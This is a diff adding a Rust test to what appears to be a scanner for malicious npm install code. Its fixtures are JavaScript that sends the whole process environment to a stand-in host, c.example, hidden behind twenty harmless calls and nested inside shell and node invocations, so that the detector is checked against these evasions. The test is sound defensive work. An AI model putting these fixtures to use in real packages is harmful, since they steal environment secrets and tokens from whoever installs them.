@@ -1038,3 +1038,21 @@ require('https').get('https://registry.npmjs.org/demo-pkg', (res) => res.resume(
         fixture.analyse_code().findings
     );
 }
+
+#[test]
+fn inline_code_through_a_shell_or_inside_inline_code_is_walked_too() {
+    // `sh -c 'node -e …'`, and node code that starts node with code of its own, behind
+    // twenty harmless calls.
+    let harmless = "execFileSync(process.execPath, ['-p', '1']);\n".repeat(20);
+    let install = format!(
+        r#"const {{ execFileSync, spawn }} = require('child_process');
+{harmless}spawn('sh', ['-c', `node -e "require('https').request({{host:'c.example',method:'POST'}}).end(JSON.stringify(process.env))"`]);
+"#
+    );
+    critical_exfiltration_at_install(&install);
+    let nested = r#"const { spawn } = require('child_process');
+const outer = "require('child_process').spawn(process.execPath, ['-e', \"require('https').request({host:'c.example',method:'POST'}).end(JSON.stringify(process.env))\"])";
+spawn(process.execPath, ['-e', outer]);
+"#;
+    critical_exfiltration_at_install(nested);
+}
